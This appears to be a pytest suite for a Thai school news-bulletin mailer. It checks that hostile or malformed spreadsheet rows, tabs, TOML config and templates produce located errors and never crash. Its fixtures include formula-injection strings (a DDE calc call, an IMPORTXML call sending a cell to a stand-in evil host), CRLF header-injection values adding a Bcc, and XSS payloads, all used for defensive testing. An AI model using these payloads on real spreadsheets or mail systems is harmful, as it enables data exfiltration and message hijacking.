"""Bad input: a corpus of hostile and malformed rows, tabs, config files and templates.

Each case must give a clear, located error (tab, row ID, column — or the TOML key, or the
template file) or be handled safely; none may crash the worker or stop the other items.

* Rows (one workbook, one worker cycle against the SMTP server, then a second cycle):
  formula strings in every text column, CR/LF and line separators in names and subjects,
  50,000-character cells, invalid and internationalised addresses, broken dates, Thai and
  Arabic digits mixed, odd approval values, duplicates. The control items around them are
  published in full; every message has one recipient and no injected header; the worker's
  cells are written as raw values, the people's cells are left as they were.
* Tabs and files (`automation run --once` through ``automation.cli.main``): missing
  columns, duplicate headers, empty tabs, missing tabs, a broken workbook → exit 0 with the
  problem reported, or exit 1 with one line naming the tab or file; never a traceback.
* Config (``main``): malformed TOML, wrong types, unknown keys, bad values, bad cron lines
  → exit 2 and one line naming the key (or the line of a TOML syntax error).
* Templates (an override folder): syntax errors, unknown names and filters, run-time
  errors, undecodable files → one line naming the template; never a traceback.
"""

from __future__ import annotations

import datetime as dt
import email.policy
from collections.abc import Callable
from dataclasses import dataclass
from email.parser import BytesParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from automation import config as config_mod
from automation.cli import main
from automation.core.cycle import Worker
from automation.demo import FORM_HEADERS
from automation.model import CycleReport, Problem
from automation.thaidate import BANGKOK
from automation.wiring import services
from tests.reliability import GoogleOffice, delivered, summarised, summary
from tests.servers.smtp import SmtpServer
from tests.sheet_driver import records
from tests.workload import (
    FORM,
    REGISTRY,
    Workload,
    form_row,
    make_workload,
    smtp_table,
)

RESULTS: dict[str, tuple[int, list[str]]] = {}
MEMBERS = 2
NOW = dt.datetime.combine(dt.datetime.now(BANGKOK).date(), dt.time(8, 0))
COLUMN = {name: FORM_HEADERS[i] for i, name in enumerate((
    "timestamp", "email", "school", "sender", "phone", "title", "body", "activity_date",
    "images", "links", "category", "approval", "note", "audience", "publish_after", "officer",
))}
# Headers a bulletin or notice may carry; anything else was injected.
HEADERS = {"content-type", "mime-version", "content-transfer-encoding", "subject", "from",
           "to", "reply-to", "date", "message-id", "list-unsubscribe", "list-unsubscribe-post",
           "x-pr-kind", "x-pr-item", "precedence", "auto-submitted", "x-auto-response-suppress",
           "references", "in-reply-to", "list-id"}


# -- rows ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class RowCase:
    name: str
    changes: dict[str, Any]
    # "published" | "error" (located at `field`, not sent) | "not_sent" | "waiting" |
    # "safe" (published, or a located error at `field`) | "problem" (located, not sent)
    expect: str
    field: str = ""


FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example.test/x","คลิกที่นี่")', "+SUM(A1:A9)",
            "-2+3", "@SUM(1,2)", "=cmd|' /C calc'!A0", "\t=1+1",
            '=IMPORTXML(CONCAT("https://evil.example.test/?",A2),"//a")']
TEXT_FIELDS = ["title", "body", "sender", "school", "category", "note", "links", "images",
               "phone"]
BAD_EMAILS = ["somchai@gmail", "a@b", "@school.example.test", "kru@", "kru@@school.example.test",
              "kru somchai@school.example.test", "kru@school..example.test",
              ".kru@school.example.test", "kru.@school.example.test", "kru@-school.example.test",
              "kru@school.example.test, b@school.example.test", "Kru <kru@school.example.test>",
              "kru@[127.0.0.1]", "kru@localhost", "kru\u200b@school.example.test",
              "a" * 65 + "@school.example.test", "k@" + "a" * 250 + ".test", "kru@school.c",
              "ผู้ใช้@ตัวอย่าง.ไทย", "用户@例子.广告", "pelé@example.com",
              "kru@school.example.test\r\nBcc: victim@example.com", "=HYPERLINK(\"mailto:x@y.z\")"]
GOOD_EMAILS = ["mailto:kru1@school.example.test", "<kru2@school.example.test>",
               "KRU3@SCHOOL.EXAMPLE.TEST", "kru4@school.example.test.",
               "kru5@ｓｃｈｏｏｌ.example.test",
               "kru6@โรงเรียน.ไทย", "kru7@xn--12c1fe0br.xn--o3cw4h", " kru8@school.example.test "]
BAD_DATES = ["31/02/2567", "2567-13-01", "32 ธ.ค. 2567", "ธันวาคม", "0", "-1", "99999999",
             "1/1/1", "2567/12/31 25:61", "พรุ่งนี้", "yesterday", "12 มี.ค. ๒๕๖๗", "๓๑/๑๒/๒๕๖๗",
             "2024-02-30", "45000.5"]
APPROVALS: list[tuple[object, str]] = [
    (True, "published"), ("อนุมัติ", "published"), (" อนุมัติ ", "published"),
    ("TRUE", "published"), ("อนุมัติด่วน", "published"), (False, "not_sent"),
    (None, "not_sent"), ("", "not_sent"), ("ไม่อนุมัติ", "not_sent"), ("ส่งกลับแก้ไข", "not_sent"),
    ("อนุมัติ?", "not_sent"), ("=TRUE()", "not_sent"), ("๑", "not_sent"), (1, "not_sent"),
    (0, "not_sent"), ("ไม่ อนุมัติ", "not_sent"), ("อนุมัติ ไม่อนุมัติ", "not_sent"),
    ("approve!!", "not_sent"), ("อนุมัติ\r\n", "published"),
]
CRLF = ["ข่าว\r\nBcc: victim@example.com", "ข่าว\nX-Evil: 1", "ข่าว\r\n\r\n<html>injected",
        "ข่าว\u2028บรรทัดใหม่", "ข่าว\u0085ต่อ", "ข่าว\tแท็บ\vแนวตั้ง"]
LONG = 50_000


def row_cases() -> list[RowCase]:
    cases = [RowCase(f"formula in {f}: {v!r}", {f: v}, "published")
             for f in TEXT_FIELDS for v in FORMULAS]
    cases += [RowCase(f"formula in audience: {v!r}", {"audience": v}, "problem", "audience")
              for v in FORMULAS]
    for f in ("title", "sender", "school", "category", "note"):
        cases += [RowCase(f"line break in {f}: {v!r}", {f: v}, "published") for v in CRLF]
    cases.append(RowCase("line break in email", {"email": "a@school.example.test\r\nBcc: x@y.z"},
                         "error", "email"))
    cases += [RowCase(f"50k {f}", {f: "ข่าว " * (LONG // 5)}, expect, f) for f, expect in (
        ("title", "error"), ("body", "error"), ("sender", "published"), ("school", "published"),
        ("category", "published"), ("note", "published"), ("phone", "published"),
        ("links", "published"), ("images", "published"), ("audience", "problem"),
        ("email", "error"),
    )]
    cases += [RowCase(f"bad e-mail {v!r}", {"email": v}, "error", "email") for v in BAD_EMAILS]
    cases += [RowCase(f"usable e-mail {v!r}", {"email": v}, "published") for v in GOOD_EMAILS]
    for f in ("timestamp", "activity_date"):
        cases += [RowCase(f"date in {f}: {v!r}", {f: v}, "published") for v in BAD_DATES]
    cases += [RowCase(f"date in publish_after: {v!r}", {"publish_after": v}, "safe",
                      "publish_after") for v in BAD_DATES]
    cases += [RowCase(f"approval {v!r}", {"approval": v}, expect, "approval")
              for v, expect in APPROVALS]
    cases += [
        RowCase("Thai digits in phone", {"phone": "๐๘๑-๒๓๔-๕๖๗๘"}, "published"),
        RowCase("Thai digits in activity date", {"activity_date": "๑๒/๐๓/๒๕๖๘"}, "published"),
        RowCase("Thai digits, future publish date", {"publish_after": "๓๑/๑๒/๒๕๙๙"}, "waiting"),
        RowCase("mixed digits in date", {"activity_date": "1๒/0๓/25๖๘"}, "published"),
        RowCase("Thai digits in title", {"title": "ข่าวรุ่นที่ ๑๒ ปี ๒๕๖๘"}, "published"),
        RowCase("number as title", {"title": 12345}, "published"),
        RowCase("float as body", {"body": 3.14159}, "published"),
        RowCase("date as title", {"title": dt.date(2025, 1, 2)}, "published"),
        RowCase("boolean as school", {"school": True}, "published"),
        RowCase("empty title", {"title": ""}, "error", "title"),
        RowCase("blank title", {"title": "   \u200b "}, "error", "title"),
        RowCase("empty body", {"body": None}, "error", "body"),
        RowCase("unknown audience", {"audience": "โรงเรียนบนดวงจันทร์"}, "problem", "audience"),
        RowCase("audience list with semicolons", {"audience": "ภายใน; ทั้งหมด"}, "published"),
        RowCase("script in body", {"body": "<script>alert(1)</script><img src=x onerror=y>"},
                "published"),
        RowCase("javascript link", {"links": "javascript:alert(1), data:text/html,x"},
                "published"),
        RowCase("RTL override in title", {"title": "ข่าว\u202eevil\u202c"}, "published"),
        RowCase("only a timestamp", {f: None for f in COLUMN if f not in ("timestamp",)},
                "error", "title"),
    ]
    return cases


def _workbook_rows(cases: list[RowCase]) -> tuple[list[list[object]], int]:
    """Form rows: the cases, each between control rows; returns rows and control count."""
    rows: list[list[object]] = [list(FORM_HEADERS)]
    controls = 0
    for n, case in enumerate(cases):
        if n % 10 == 0:
            controls += 1
            rows.append(form_row(5000 + controls, NOW - dt.timedelta(minutes=n),
                                 f"ข่าวควบคุม {controls}", True))
        row = form_row(n + 1, NOW - dt.timedelta(minutes=n, seconds=30), f"กรณีทดสอบ {n + 1}",
                       True)
        for field, value in case.changes.items():
            row[list(COLUMN).index(field)] = value
        rows.append(row)
    # An exact duplicate of the first control row, and rows people leave blank or half-blank.
    rows += [list(rows[1]), [None] * len(FORM_HEADERS), ["  ", "", None, " "]]
    return rows, controls


class LocalRows:
    """The form tab in the local workbook (xlsx cannot hold control characters, and
    openpyxl cuts a cell at Excel's 32,767 characters: still past every limit tested)."""

    def __init__(self, work: Workload) -> None:
        self.work = work

    def seed(self, rows: list[list[object]]) -> None:
        book = openpyxl.load_workbook(self.work.workbook)
        sheet = book[FORM]
        sheet.delete_rows(1, sheet.max_row)
        for r, values in enumerate(rows, start=1):
            for c, value in enumerate(values, start=1):
                if isinstance(value, str):
                    value = ILLEGAL_CHARACTERS_RE.sub("", value)
                cell = sheet.cell(row=r, column=c, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"  # typed in as text, as a person would
        book.save(self.work.workbook)

    def cycle(self) -> CycleReport:
        return Worker(services(config_mod.load(self.work.config))).cycle()

    def grid(self, formulas: bool = False) -> list[list[object]]:
        book = openpyxl.load_workbook(self.work.workbook, data_only=not formulas)
        sheet = book[FORM]
        if formulas:
            return [[c.value if c.data_type == "f" else None for c in row]
                    for row in sheet.iter_rows()]
        return [list(r) for r in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("backend", ["local", "google"])
def test_hostile_rows(tmp_path: Path, backend: str) -> None:
    cases = row_cases()
    rows, controls = _workbook_rows(cases)
    with SmtpServer() as server:
        work = make_workload(tmp_path, members=MEMBERS, approved=0,
                             mail=smtp_table(server.port, connections=3, retries=0))
        sheet: LocalRows | GoogleOffice = (
            LocalRows(work) if backend == "local" else GoogleOffice(work, tmp_path, MEMBERS))
        sheet.seed(rows)
        before = _people(sheet.grid())
        report = sheet.cycle()
        second = sheet.cycle()
        messages = server.messages
    got = delivered(messages)
    after = sheet.grid()
    by_row = {r["#"]: r for r in records(after)}
    failures: dict[str, list[str]] = {}

    def fail(name: str, why: str) -> None:
        failures.setdefault(name, []).append(why)

    bulletins: dict[str, int] = {}
    for kind, item, _to in got.ids:
        if kind == "bulletin":
            bulletins[item] = bulletins.get(item, 0) + 1
    position = 2
    case_rows: list[tuple[RowCase, dict[str, Any]]] = []
    control_rows: list[dict[str, Any]] = []
    for n, case in enumerate(cases):
        if n % 10 == 0:
            control_rows.append(by_row[position])
            position += 1
        case_rows.append((case, by_row.get(position, {})))
        position += 1
    for row in control_rows:
        if row.get("สถานะ") != "เผยแพร่แล้ว" or bulletins.get(str(row["รหัสข่าว"])) != MEMBERS:
            fail(f"control row {row['#']}", f"not published in full: {row.get('สถานะ')}")
    for case, row in case_rows:
        for why in _judge(case, row, report.problems, bulletins):
            fail(case.name, why)
    for why in _judge_messages(messages):
        fail("message headers", why)
    pairs = zip(before, _people(after), strict=False)
    changed = [(n, b, a) for n, (b, a) in enumerate(pairs, start=1) if a != b]
    if changed or len(_people(after)) < len(before):
        fail("people's cells", f"changed outside the worker's columns: {changed[:2]}")
    written = [f for row in sheet.grid(formulas=True) for f in row[len(FORM_HEADERS):] if f]
    if written:
        fail("worker cells", f"formulas written: {written[:3]}")
    if second.sent or second.notices:
        fail("second cycle", f"sent again: {second.sent} bulletins, {second.notices} notices")
    if got.doubled:
        fail("exactly once", f"{got.doubled} pairs under two Message-IDs")
    RESULTS[f"rows ({backend})"] = (len(cases) + controls + 4,
                                    [f"{k}: {v}" for k, v in failures.items()])
    assert not failures, failures


def _people(grid: list[list[object]]) -> list[list[object]]:
    """The people's columns of each row, blanks as "" (the API leaves trailing ones out)."""
    width = len(FORM_HEADERS)
    return [["" if v is None else v for v in [*r[:width], *[None] * (width - len(r[:width]))]]
            for r in grid]


def _located(problems: list[Problem], row_id: str, field: str, severity: str = "error") -> bool:
    return any(p.row_id == row_id and p.column == COLUMN[field] and p.tab == FORM
               and (severity == "any" or p.severity == severity) for p in problems)


def _judge(case: RowCase, row: dict[str, Any], problems: list[Problem],
           bulletins: dict[str, int]) -> list[str]:
    if not row:
        return ["the row disappeared"]
    row_id = str(row.get("รหัสข่าว") or "")
    status = row.get("สถานะ")
    sent = bulletins.get(row_id, 0)
    published = status == "เผยแพร่แล้ว" and sent == MEMBERS
    error = status == "ผิดพลาด" and sent == 0 and _located(problems, row_id, case.field or "title")
    if not row_id.startswith("N-"):
        return [f"no news ID written ({row_id!r})"]
    if case.expect == "published" and not published:
        return [f"expected published, got status {status!r} with {sent} bulletins"]
    if case.expect == "error" and not error:
        return [f"expected a located error in {case.field}, got {status!r}, {sent} sent"]
    if case.expect == "safe" and not (published or error):
        return [f"neither published nor a located error: {status!r}, {sent} sent"]
    if case.expect in ("not_sent", "waiting", "problem") and sent:
        return [f"{sent} bulletins for an item that must not go out"]
    if case.expect == "waiting" and status != "อนุมัติ-รอเผยแพร่":
        return [f"expected waiting, got {status!r}"]
    if case.expect == "problem" and not _located(problems, row_id, case.field, "any"):
        return [f"no located problem in {case.field}"]
    if status == "ผิดพลาด" and not row.get("ผลการส่ง"):
        return ["an error without its reason next to the row"]
    return []


def _judge_messages(messages: list[Any]) -> list[str]:
    problems = []
    parser = BytesParser(policy=email.policy.default)
    for m in messages:
        msg = parser.parsebytes(m.data)
        names = {k.lower() for k in msg}
        if names - HEADERS:
            problems.append(f"unexpected headers {sorted(names - HEADERS)} in {msg['Subject']}")
        if len(m.rcpt_tos) != 1 or len(msg.get_all("To") or []) != 1:
            problems.append(f"not exactly one recipient: {m.rcpt_tos}")
        for name in ("From", "Subject", "Date", "Message-ID", "MIME-Version"):
            if len(msg.get_all(name) or []) != 1:
                problems.append(f"{len(msg.get_all(name) or [])} {name} headers")
        if any(ch in str(msg["Subject"]) for ch in "\r\n\u2028\u0085"):
            problems.append(f"line break in subject {str(msg['Subject'])[:60]!r}")
        for line in m.data.split(b"\r\n"):
            if len(line) > 998:
                problems.append("a line longer than SMTP allows")
                break
    return problems[:20]


# -- tabs and files ------------------------------------------------------------------------


def _edit(change: Callable[[Any], None]) -> Callable[[Path], None]:
    def apply(workbook: Path) -> None:
        book = openpyxl.load_workbook(workbook)
        change(book)
        book.save(workbook)

    return apply


def _drop_header(tab: str, header: str) -> Callable[[Path], None]:
    def change(book: Any) -> None:
        sheet = book[tab]
        for cell in sheet[1]:
            if cell.value == header:
                sheet.delete_cols(cell.column)
                return
        raise AssertionError(header)

    return _edit(change)


def _set_header(tab: str, header: str, value: object) -> Callable[[Path], None]:
    def change(book: Any) -> None:
        for cell in book[tab][1]:
            if cell.value == header:
                cell.value = value
                return
        raise AssertionError(header)

    return _edit(change)


def _clear(tab: str, keep_header: bool = False) -> Callable[[Path], None]:
    def change(book: Any) -> None:
        sheet = book[tab]
        sheet.delete_rows(2 if keep_header else 1, sheet.max_row)

    return _edit(change)


def _remove_tab(tab: str) -> Callable[[Path], None]:
    return _edit(lambda book: book.remove(book[tab]))


def _duplicate_header(tab: str, header: str) -> Callable[[Path], None]:
    def change(book: Any) -> None:
        sheet = book[tab]
        col = sheet.max_column + 1
        sheet.cell(row=1, column=col, value=header)
        for r in range(2, sheet.max_row + 1):
            sheet.cell(row=r, column=col, value="ค่าในคอลัมน์ซ้ำ")

    return _edit(change)


def _spaces_and_case(workbook: Path) -> None:
    _set_header(FORM, "หัวข้อข่าว", "  หัวข้อข่าว  ")(workbook)
    _set_header(FORM, "อนุมัติ", " Approval ")(workbook)


def _garbage(workbook: Path) -> None:
    workbook.write_bytes(b"PK\x03\x04 this is not really a workbook \x00\xff" * 40)


def _all_empty(workbook: Path) -> None:
    for tab in (FORM, REGISTRY, "งดรับข่าว"):
        _clear(tab)(workbook)


# (name, change, exit code, text the output — and with exit 0 the officer's report — must
# contain, bulletins the members must receive: 2 approved items x 3 members, or none while
# publication is held / the run cannot read its input)
TAB_CASES: list[tuple[str, Callable[[Path], None], int, str, int]] = [
    ("form without title column", _drop_header(FORM, "หัวข้อข่าว"), 0, "หัวข้อข่าว", 0),
    ("form without body column", _drop_header(FORM, "เนื้อหาข่าว"), 0, "เนื้อหาข่าว", 0),
    ("form without approval column", _drop_header(FORM, "อนุมัติ"), 0, "อนุมัติ", 0),
    ("form without e-mail column", _drop_header(FORM, "ที่อยู่อีเมล"), 0, "ที่อยู่อีเมล", 6),
    ("form without timestamp column", _drop_header(FORM, "ประทับเวลา"), 0, "ประทับเวลา", 6),
    ("registry without e-mail column", _drop_header(REGISTRY, "อีเมล"), 0, "อีเมล", 0),
    ("registry without member ID column", _drop_header(REGISTRY, "รหัสสมาชิก"), 0, "", 6),
    ("duplicate title header", _duplicate_header(FORM, "หัวข้อข่าว"), 0, "หัวคอลัมน์ซ้ำ", 6),
    ("duplicate registry e-mail header", _duplicate_header(REGISTRY, "อีเมล"), 0, "ซ้ำ", 6),
    ("form tab empty", _clear(FORM), 0, "ไม่พบคอลัมน์", 0),
    ("form tab header only", _clear(FORM, keep_header=True), 0, "ข่าว 0 รายการ", 0),
    ("registry tab empty", _clear(REGISTRY), 0, "พักการเผยแพร่", 0),
    ("registry header only", _clear(REGISTRY, keep_header=True), 0, "ไม่มีรายชื่อสมาชิก", 0),
    ("suppression tab empty", _clear("งดรับข่าว"), 0, "", 6),
    ("every tab empty", _all_empty, 0, "ไม่พบคอลัมน์", 0),
    ("headers with spaces and English", _spaces_and_case, 0, "", 6),
    ("numeric and empty header cells", _set_header(FORM, "ประเภทข่าว", 2567), 0, "'2567'", 6),
    ("form tab missing", _remove_tab(FORM), 1, FORM, 0),
    ("registry tab missing", _remove_tab(REGISTRY), 1, REGISTRY, 0),
    ("workbook is not a workbook", _garbage, 1, "workbook.xlsx", 0),
    ("workbook missing", lambda wb: wb.unlink(), 1, "workbook.xlsx", 0),
]


def _outbox(folder: Path) -> list[Any]:
    parser = BytesParser(policy=email.policy.default)
    return [parser.parsebytes(p.read_bytes()) for p in sorted(folder.rglob("*.eml"))]


def _judge_tab_case(out: str, err: str, mails: list[Any], code: int, text: str,
                    bulletins: int) -> list[str]:
    problems = []
    if "Traceback" in out + err:
        problems.append("a traceback")
    if code and err.count("\n") != 1:
        problems.append(f"not one line: {err!r}")
    if text and text not in (out + err if code == 0 else err):
        problems.append(f"{text!r} not named")
    got = sum(1 for m in mails if m["X-PR-Kind"] == "bulletin")
    if got != bulletins:
        problems.append(f"{got} bulletins received, expected {bulletins}")
    report = "".join(m.get_body(("plain",)).get_content() for m in mails
                     if m["X-PR-Kind"] == "officer_report")
    told = text if code == 0 and text and "รายการ" not in text else ""
    if told and told not in report:
        problems.append(f"the officer's report does not name {told!r}")
    return problems


@pytest.mark.parametrize(("name", "change", "code", "text", "bulletins"), TAB_CASES,
                         ids=[c[0] for c in TAB_CASES])
def test_broken_tabs_and_files(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str,
                               change: Callable[[Path], None], code: int, text: str,
                               bulletins: int) -> None:
    work = make_workload(tmp_path, members=3, approved=2)
    change(work.workbook)
    exit_code = main(["run", "--once", "--config", str(work.config)])
    out, err = capsys.readouterr()
    problems = _judge_tab_case(out, err, _outbox(tmp_path), code, text, bulletins)
    if exit_code != code:
        problems.append(f"exit {exit_code}, expected {code}: {err.strip()[:200]}")
    RESULTS[f"tab: {name}"] = (1, problems)
    assert not problems, problems


# -- config --------------------------------------------------------------------------------

# (text replacing or added to schedule.toml, the key the message must name)
CONFIG_CASES: list[tuple[str, str, str]] = [
    ("toml: unclosed table", "[office\nname = 'x'\n", "line"),
    ("toml: missing value", "[office]\nname = \n", "line"),
    ("toml: unterminated string", '[office]\nname = "สำนักงาน\n', "line"),
    ("toml: duplicate key", "[office]\nname = 'a'\nname = 'b'\n", "line"),
    ("toml: duplicate table", "[office]\nname = 'a'\n[office]\nwebsite = 'b'\n", "line"),
    ("toml: bare key without value", "[office]\nname\n", "line"),
    ("toml: stray equals", "= 1\n", "line"),
    ("toml: table and array of tables", "[office]\nname = 'a'\n[[office]]\n", "line"),
    ("toml: bad escape", '[office]\nname = "a\\q"\n', "line"),
    ("toml: control character", '[office]\nname = "a\x01b"\n', "line"),
    ("toml: not UTF-8", "\udcff", "UTF-8"),
    ("type: office.name number", "[office]\nname = 1\n", "office.name"),
    ("type: mail.port text", '[mail]\ntransport = "outbox"\noutbox = "o"\nport = "587"\n',
     "mail.port"),
    ("type: mail.timeout text", '[mail]\ntransport = "outbox"\noutbox = "o"\ntimeout = "30"\n',
     "mail.timeout"),
    ("type: publish.acknowledge text", '[publish]\nacknowledge = "yes"\n',
     "publish.acknowledge"),
    ("type: ledger number", "ledger = 5\n", "ledger"),
    ("type: templates list", "templates = []\n", "templates"),
    ("type: publish table is text", 'publish = "x"\n', "publish"),
    ("value: rate 0", '[mail]\ntransport = "outbox"\noutbox = "o"\nrate_per_minute = 0\n',
     "mail.rate_per_minute"),
    ("value: connections 0", '[mail]\ntransport = "outbox"\noutbox = "o"\nconnections = 0\n',
     "mail.connections"),
    ("value: backend excel", '[sheets]\nbackend = "excel"\n', "sheets.backend"),
    ("value: transport fax", '[mail]\ntransport = "fax"\n', "mail.transport"),
    ("value: security tls", '[mail]\ntransport = "outbox"\noutbox = "o"\nsecurity = "tls"\n',
     "mail.security"),
    ("value: sender not an address", '[mail]\ntransport = "outbox"\noutbox = "o"\n'
     'sender = "nobody"\n', "mail.sender"),
    ("value: outbox missing", '[mail]\ntransport = "outbox"\n', "mail.outbox"),
    ("value: workbook missing", '[sheets]\nbackend = "local"\n', "sheets.workbook"),
    ("value: google without id", '[sheets]\nbackend = "google"\n', "sheets.spreadsheet_id"),
    ("value: bulletin mode weekly", '[bulletin]\nmode = "weekly"\n', "bulletin.mode"),
    ("value: digest cron bad", '[bulletin]\ndigest_cron = "25 * * * *x"\n',
     "bulletin.digest_cron"),
    ("unknown key in office", "[office]\nnmae = 'x'\n", "office.nmae"),
    ("unknown section", "[mailbox]\nhost = 'x'\n", "mailbox"),
    ("unknown top-level key", "path = 'x'\n", "path"),
    ("unknown column field", '[sheets.columns.form]\ntitel = ["หัวเรื่อง"]\n',
     "sheets.columns.form.titel"),
    ("column aliases not a list", '[sheets.columns.form]\ntitle = "หัวเรื่อง"\n',
     "sheets.columns.form.title"),
    ("schedule: cron out of range", '[schedule.jobs.poll]\ncron = "*/5 25 * * *"\n',
     "schedule.jobs.poll.cron"),
    ("schedule: cron four fields", '[schedule.jobs.poll]\ncron = "*/5 * * *"\n',
     "schedule.jobs.poll.cron"),
    ("schedule: cron weekday 8", '[schedule.jobs.director_digest]\ncron = "0 7 * * 8"\n',
     "schedule.jobs.director_digest.cron"),
    ("schedule: interval negative", "[schedule.jobs.mailbox]\ninterval_minutes = -5\n",
     "schedule.jobs.mailbox.interval_minutes"),
    ("schedule: both timetables",
     '[schedule.jobs.poll]\ninterval_minutes = 5\ncron = "*/5 * * * *"\n', "schedule.jobs.poll"),
    ("schedule: unknown job", "[schedule.jobs.coffee]\ninterval_minutes = 5\n",
     "schedule.jobs.coffee"),
    ("schedule: unknown key", "[schedule.jobs.poll]\nevery = 5\n", "schedule.jobs.poll.every"),
    ("schedule: time zone", '[schedule]\ntimezone = "Bangkok"\n', "schedule.timezone"),
    ("schedule: jobs not a table", "[schedule]\njobs = 5\n", "schedule.jobs"),
]


@pytest.mark.parametrize(("name", "text", "key"), CONFIG_CASES, ids=[c[0] for c in CONFIG_CASES])
def test_broken_config(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, text: str,
                       key: str) -> None:
    work = make_workload(tmp_path, members=2, approved=1)
    base = work.config.read_text(encoding="utf-8")
    if name.startswith("toml: not UTF-8"):
        work.config.write_bytes(base.encode() + b"\n# \xff\xfe\n")
    elif name.startswith("toml"):
        work.config.write_text(text + base, encoding="utf-8")
    else:
        work.config.write_text(_merge(base, text), encoding="utf-8")
    code = main(["run", "--once", "--config", str(work.config)])
    out, err = capsys.readouterr()
    problems = []
    if code != 2:
        problems.append(f"exit {code}: {err.strip()[:200]}")
    if err.count("\n") != 1 or "Traceback" in out + err:
        problems.append(f"not one line: {err[:300]!r}")
    if key not in err:
        problems.append(f"{key!r} not named in {err.strip()[:200]!r}")
    if (tmp_path / "outbox").exists():
        problems.append("worked despite the bad config")
    RESULTS[f"config: {name}"] = (1, problems)
    assert not problems, problems


def _merge(base: str, text: str) -> str:
    """``text``'s tables replace the same tables in ``base`` (keys at the top go first)."""
    lines = text.splitlines(keepends=True)
    first = next((i for i, line in enumerate(lines) if line.startswith("[")), len(lines))
    head, tables = "".join(lines[:first]), "".join(lines[first:])
    names = [line.strip() for line in tables.splitlines() if line.startswith("[")]
    kept = []
    skipping = False
    for line in base.splitlines():
        if line.startswith("["):
            skipping = line.strip() in names
        if not skipping:
            kept.append(line)
    return head + "\n".join(kept) + "\n" + tables


# -- templates -----------------------------------------------------------------------------

TEMPLATE_CASES: list[tuple[str, str, bytes]] = [
    ("syntax error", "bulletin/subject.txt", b"{{ item.title "),
    ("unknown variable", "bulletin/subject.txt", b"{{ nosuch }}"),
    ("unknown attribute chain", "bulletin/body.txt", b"{{ item.title.nosuch.deeper }}"),
    ("unknown filter", "bulletin/body.html", b"{{ item.title|nosuch }}"),
    ("bad for loop", "ack/body.txt", b"{% for x in %}{% endfor %}"),
    ("unclosed block", "ack/subject.txt", b"{% if item %}x"),
    ("missing include", "bulletin/body.txt", b"{% include 'nosuch.txt' %}"),
    ("division by zero", "bulletin/subject.txt", b"{{ 1 / 0 }}"),
    ("not UTF-8", "bulletin/subject.txt", b"\xff\xfe\x00{{ item.title }}"),
    ("call of a non-function", "approved/subject.txt", b"{{ item.title() }}"),
    ("endless recursion", "bulletin/subject.txt",
     b"{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
]


@pytest.mark.parametrize(("name", "path", "content"), TEMPLATE_CASES,
                         ids=[c[0] for c in TEMPLATE_CASES])
def test_broken_templates(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str,
                          path: str, content: bytes) -> None:
    work = make_workload(tmp_path, members=2, approved=1, extra_config="")
    folder = tmp_path / "my-templates"
    (folder / path).parent.mkdir(parents=True)
    (folder / path).write_bytes(content)
    text = work.config.read_text(encoding="utf-8")
    work.config.write_text('templates = "my-templates"\n' + text, encoding="utf-8")
    code = main(["run", "--once", "--config", str(work.config)])
    _out, err = capsys.readouterr()
    problems = []
    if code not in (1, 2):
        problems.append(f"exit {code}")
    if err.count("\n") != 1 or "Traceback" in err:
        problems.append(f"not one line: {err[:300]!r}")
    if path not in err:
        problems.append(f"{path} not named in {err.strip()[:200]!r}")
    RESULTS[f"template: {name}"] = (1, problems)
    assert not problems, problems


@summarised
def _summary() -> str | None:
    if not RESULTS:
        return None
    cases = sum(n for n, _p in RESULTS.values())
    failures = sum(len(p) for _n, p in RESULTS.values())
    return summary("bad input (rows, tabs, files, config, templates)", cases, failures,
                   f"{len(RESULTS)} groups")
